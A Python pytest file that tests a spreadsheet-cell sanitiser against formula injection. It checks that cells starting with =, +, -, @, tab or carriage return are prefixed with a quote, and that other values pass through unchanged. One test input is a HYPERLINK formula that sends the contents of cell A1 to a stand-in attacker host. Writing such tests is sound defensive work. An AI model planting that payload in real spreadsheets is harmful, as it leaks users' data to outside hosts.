import datetime as dt
from decimal import Decimal

import pytest

from common.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_starts_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["张三与李四借贷纠纷", "138****5678", "", " =1", 7, -3, Decimal("-1.5"), None]
)
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_row():
    day = dt.date(2026, 12, 1)
    assert safe_row(["=1", day, -4, "ok"]) == ["'=1", day, -4, "ok"]
